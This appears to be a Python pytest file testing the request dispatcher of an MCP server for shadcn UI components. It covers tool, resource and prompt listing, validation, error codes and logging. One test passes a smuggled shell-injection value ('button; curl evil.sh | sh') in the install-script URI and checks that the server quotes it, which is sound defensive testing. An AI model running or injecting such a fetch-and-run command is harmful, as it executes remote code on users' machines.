"""Tests for request dispatch: listing, routing, validation and error classification."""

import pytest

from shadcn_mcp.foundation.errors import ErrorCode, ServerException, not_found
from shadcn_mcp.handlers.tools import NO_USAGE
from shadcn_mcp.registry import ContentResult, Registry, ToolDescriptor
from shadcn_mcp.runtime.observability.logging import MemoryRenderer
from shadcn_mcp.server import Dispatcher

INSTALL_URI = "resource-template:get_install_script_for_component?packageManager={pm}&component=button"


class RaisingTool:
    def __init__(self, exc: Exception) -> None:
        self.exc = exc

    async def invoke(self, params: object) -> ContentResult:
        raise self.exc


def _raising(exc: Exception) -> Dispatcher:
    registry = Registry()
    registry.add_tool(ToolDescriptor(name="explode", description="Always raises when called"), RaisingTool(exc))
    return Dispatcher(registry.freeze())


# ═════════════════════════════════════════════════════════════════════════════
# Listing
# ═════════════════════════════════════════════════════════════════════════════


def test_list_tools(dispatcher: Dispatcher) -> None:
    """Test every tool is listed in declaration order with its input schema."""
    tools = dispatcher.list_tools()["tools"]
    assert [t["name"] for t in tools] == [
        "get_component",
        "get_component_demo",
        "list_shadcn_components",
        "get_component_details",
        "get_examples",
        "get_usage",
        "search_components",
        "get_themes",
        "get_blocks",
        "get_block_details",
        "get_component_config",
    ]

    by_name = {t["name"]: t for t in tools}
    schema = by_name["get_component"]["inputSchema"]
    assert schema["type"] == "object"
    assert schema["required"] == ["componentName"]
    assert schema["properties"]["componentName"]["type"] == "string"
    assert "title" not in schema["properties"]["componentName"]
    assert by_name["list_shadcn_components"]["inputSchema"] == {"type": "object", "properties": {}}
    assert "required" not in by_name["get_blocks"]["inputSchema"]


def test_list_resources(dispatcher: Dispatcher) -> None:
    """Test static resources and templates are listed with camelCase keys."""
    resources = dispatcher.list_resources()["resources"]
    assert [r["uri"] for r in resources] == [
        "resource:get_components",
        "resource:shadcn-ui-overview",
        "resource:shadcn-ui-installation",
        "resource:shadcn-ui-component-list",
        "resource:shadcn-ui-theming",
    ]
    assert resources[0]["mimeType"] == "application/json"

    templates = dispatcher.list_resource_templates()["resourceTemplates"]
    assert [t["name"] for t in templates] == ["get_install_script_for_component", "get_installation_guide"]
    assert "{packageManager}" in templates[0]["uriTemplate"]


def test_list_prompts(dispatcher: Dispatcher) -> None:
    """Test prompts are listed with their arguments."""
    prompts = dispatcher.list_prompts()["prompts"]
    assert [p["name"] for p in prompts] == ["build-with-component", "create-greeting"]
    assert prompts[1]["arguments"][0] == {
        "name": "name",
        "description": "Name of the person to greet",
        "required": True,
    }


# ═════════════════════════════════════════════════════════════════════════════
# Resources
# ═════════════════════════════════════════════════════════════════════════════


@pytest.mark.asyncio
async def test_read_install_script(dispatcher: Dispatcher) -> None:
    """Test the install script template for a known package manager."""
    result = await dispatcher.read_resource(INSTALL_URI.format(pm="pnpm"))
    content = result["contents"][0]
    assert content["text"] == "pnpm dlx shadcn@latest add button"
    assert content["uri"] == INSTALL_URI.format(pm="pnpm")
    assert content["mimeType"] == "text/plain"


@pytest.mark.asyncio
async def test_read_install_script_unknown_manager(dispatcher: Dispatcher) -> None:
    """Test unknown package managers fall back to the npm form."""
    result = await dispatcher.read_resource(INSTALL_URI.format(pm="unknown"))
    assert result["contents"][0]["text"] == "npx shadcn@latest add button"


@pytest.mark.asyncio
async def test_read_install_script_quotes_component(dispatcher: Dispatcher) -> None:
    """Test a decoded component with shell syntax comes back as one quoted argument."""
    uri = "resource-template:get_install_script_for_component?packageManager=npm&component=button%3B%20curl%20evil.sh%20%7C%20sh"
    result = await dispatcher.read_resource(uri)
    assert result["contents"][0]["text"] == "npx shadcn@latest add 'button; curl evil.sh | sh'"


@pytest.mark.asyncio
async def test_read_unknown_resource(dispatcher: Dispatcher) -> None:
    """Test an unmatched URI fails NotFound."""
    with pytest.raises(ServerException) as exc:
        await dispatcher.read_resource("resource:does-not-exist")
    assert exc.value.code is ErrorCode.NOT_FOUND
    assert exc.value.error.target == "resource:does-not-exist"


# ═════════════════════════════════════════════════════════════════════════════
# Tools
# ═════════════════════════════════════════════════════════════════════════════


@pytest.mark.asyncio
async def test_call_unknown_tool(dispatcher: Dispatcher) -> None:
    """Test unregistered tool names fail NotFound."""
    with pytest.raises(ServerException) as exc:
        await dispatcher.call_tool("not_a_tool", {})
    assert exc.value.code is ErrorCode.NOT_FOUND
    assert "not_a_tool" in exc.value.error.message


@pytest.mark.asyncio
async def test_call_tool_missing_required_field(dispatcher: Dispatcher) -> None:
    """Test omitting a required field fails InvalidParams naming the field."""
    with pytest.raises(ServerException) as exc:
        await dispatcher.call_tool("get_component", {})
    assert exc.value.code is ErrorCode.INVALID_PARAMS
    assert "componentName" in exc.value.error.message
    assert exc.value.error.message.startswith("Invalid arguments for tool 'get_component'")


@pytest.mark.asyncio
@pytest.mark.parametrize("value", [5, None, ["button"], "   "])
async def test_call_tool_rejects_bad_component_name(dispatcher: Dispatcher, value: object) -> None:
    """Test non-string or blank component names fail InvalidParams."""
    with pytest.raises(ServerException) as exc:
        await dispatcher.call_tool("get_usage", {"componentName": value})
    assert exc.value.code is ErrorCode.INVALID_PARAMS


@pytest.mark.asyncio
async def test_call_tool_returns_text_block(dispatcher: Dispatcher) -> None:
    """Test a valid call returns at least one text block."""
    result = await dispatcher.call_tool("get_usage", {"componentName": "Button"})
    blocks = result["content"]
    assert len(blocks) >= 1
    assert blocks[0]["type"] == "text"
    assert 'import { Button } from "@/components/ui/button"' in blocks[0]["text"]


@pytest.mark.asyncio
async def test_call_tool_usage_fallback(dispatcher: Dispatcher) -> None:
    """Test a page without a Usage section yields the fallback text."""
    result = await dispatcher.call_tool("get_usage", {"componentName": "aspect-ratio"})
    assert result["content"][0]["text"] == NO_USAGE


@pytest.mark.asyncio
async def test_call_tool_ignores_unknown_arguments(dispatcher: Dispatcher) -> None:
    """Test extra argument keys are ignored."""
    result = await dispatcher.call_tool("get_usage", {"componentName": "button", "verbose": True})
    assert result["content"][0]["type"] == "text"


@pytest.mark.asyncio
async def test_untyped_handler_error_becomes_internal() -> None:
    """Test arbitrary exceptions are re-classified with the message kept verbatim."""
    dispatcher = _raising(RuntimeError("registry/new-york-v4/ui/x.tsx exploded"))
    with pytest.raises(ServerException) as exc:
        await dispatcher.call_tool("explode", None)
    err = exc.value.error
    assert err.code is ErrorCode.INTERNAL_ERROR
    assert err.message == "registry/new-york-v4/ui/x.tsx exploded"
    assert err.target == "explode"
    assert isinstance(exc.value.__cause__, RuntimeError)


@pytest.mark.asyncio
async def test_typed_handler_error_passes_through() -> None:
    """Test a ServerException raised by a handler is not wrapped again."""
    raised = not_found("Component", "nope")
    dispatcher = _raising(raised)
    with pytest.raises(ServerException) as exc:
        await dispatcher.call_tool("explode", {})
    assert exc.value is raised
    assert exc.value.code is ErrorCode.NOT_FOUND


@pytest.mark.asyncio
async def test_upstream_failure_is_internal_error(dispatcher: Dispatcher) -> None:
    """Test a missing docs page surfaces as InternalError, not a crash."""
    with pytest.raises(ServerException) as exc:
        await dispatcher.call_tool("get_component_details", {"componentName": "missing"})
    assert exc.value.code is ErrorCode.INTERNAL_ERROR
    assert "404" in exc.value.error.message


# ═════════════════════════════════════════════════════════════════════════════
# Prompts
# ═════════════════════════════════════════════════════════════════════════════


@pytest.mark.asyncio
async def test_get_prompt(dispatcher: Dispatcher) -> None:
    """Test a prompt renders one user message, applying argument defaults."""
    result = await dispatcher.get_prompt("create-greeting", {"name": "Ada"})
    assert result["messages"] == [{
        "role": "user",
        "content": {"type": "text", "text": "Please generate a greeting in casual style to Ada."},
    }]

    result = await dispatcher.get_prompt("build-with-component", {"componentName": "dialog"})
    assert result["description"] == "Build with dialog"
    assert 'componentName "dialog"' in result["messages"][0]["content"]["text"]


@pytest.mark.asyncio
async def test_get_prompt_missing_argument(dispatcher: Dispatcher) -> None:
    """Test missing required prompt arguments fail InvalidParams."""
    with pytest.raises(ServerException) as exc:
        await dispatcher.get_prompt("create-greeting", {"style": "formal"})
    assert exc.value.code is ErrorCode.INVALID_PARAMS
    assert exc.value.error.message == "Missing required arguments for prompt 'create-greeting': name"


@pytest.mark.asyncio
async def test_get_unknown_prompt(dispatcher: Dispatcher) -> None:
    """Test unknown prompt names fail NotFound."""
    with pytest.raises(ServerException) as exc:
        await dispatcher.get_prompt("nope")
    assert exc.value.code is ErrorCode.NOT_FOUND


# ═════════════════════════════════════════════════════════════════════════════
# Logging
# ═════════════════════════════════════════════════════════════════════════════


@pytest.mark.asyncio
async def test_requests_are_logged(dispatcher: Dispatcher, log_entries: MemoryRenderer) -> None:
    """Test handled and failed requests each produce one log line with context."""
    await dispatcher.read_resource(INSTALL_URI.format(pm="npm"))
    with pytest.raises(ServerException):
        await dispatcher.call_tool("not_a_tool", {})

    handled = [e for e in log_entries.entries if e.event == "request handled"]
    assert handled[0].context["method"] == "resources/read"
    assert "duration_ms" in handled[0].context

    failed = [e for e in log_entries.entries if e.event == "request failed"]
    assert failed[0].level == "warning"
    assert failed[0].context["code"] == "NOT_FOUND"
    assert failed[0].context["target"] == "not_a_tool"


@pytest.mark.asyncio
async def test_internal_errors_logged_with_reason(log_entries: MemoryRenderer) -> None:
    """Test internal errors are logged at error level with a cause label."""
    dispatcher = _raising(TimeoutError("read timed out"))
    with pytest.raises(ServerException):
        await dispatcher.call_tool("explode", {})

    failed = [e for e in log_entries.entries if e.event == "request failed"]
    assert failed[0].level == "error"
    assert failed[0].context["reason"] == "timeout"
